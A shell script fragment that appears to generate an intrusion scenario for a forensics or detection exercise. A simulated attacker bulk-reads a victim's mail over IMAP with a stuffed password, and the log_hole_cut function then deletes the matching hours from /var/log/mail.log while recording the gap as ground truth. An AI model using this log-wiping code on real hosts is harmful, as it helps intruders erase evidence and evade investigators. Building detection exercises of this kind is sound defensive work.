# With root on the mail host they cut the hours of their visit out of its log.

log_hole_calendar()
{
	cat <<-END
	$(at 2 22:10) log_hole_read
	$(at 3 06:00) log_hole_cut
	END
}

log_hole_read()
{
	victim=$(person newclient)
	note_entry "$victim" undetermined,leaked_password,stuffing
	imap_bulk "$victim" 198.18.250.180 1 30
}

# 22:00 to 01:00, whichever way the stamps are written.
log_hole_cut()
{
	WHO=owner
	hour=$(at 2 22:00)
	end=$(at 3 01:00)
	echo "0	mail	$(utc "$hour")	$(utc "$end")" >>$TRUTH/blind
	while [ "$hour" -lt "$end" ]; do
		TZ=$ZONE date -d "@$hour" '+^%b %e %H:'
		TZ=$ZONE date -d "@$hour" '+^%Y-%m-%dT%H:'
		hour=$((hour + 3600))
	done >/run/cut
	grep -v -f /run/cut /var/log/mail.log >/run/mail.cut
	cat /run/mail.cut >/var/log/mail.log
}
